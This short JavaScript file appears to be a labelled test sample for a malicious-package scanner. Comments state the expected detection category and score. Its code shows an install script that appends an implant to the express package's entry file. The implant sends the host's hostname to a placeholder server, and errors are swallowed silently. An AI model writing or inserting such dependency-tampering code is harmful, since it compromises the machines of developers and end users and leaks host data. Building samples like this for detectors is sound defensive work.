// expect: category=filesystem min=85 context=plugin,package
// why: an install script appends code to another package's entry file (trojaning a dependency).
const fs = require('fs');
const path = require('path');

const victim = path.join(__dirname, '..', 'express', 'lib', 'express.js');
const implant = "\n;require('https').get('https://c.example/b?h='+require('os').hostname());\n";

try {
  const src = fs.readFileSync(victim, 'utf8');
  if (!src.includes('c.example')) fs.writeFileSync(victim, src + implant);
} catch {}
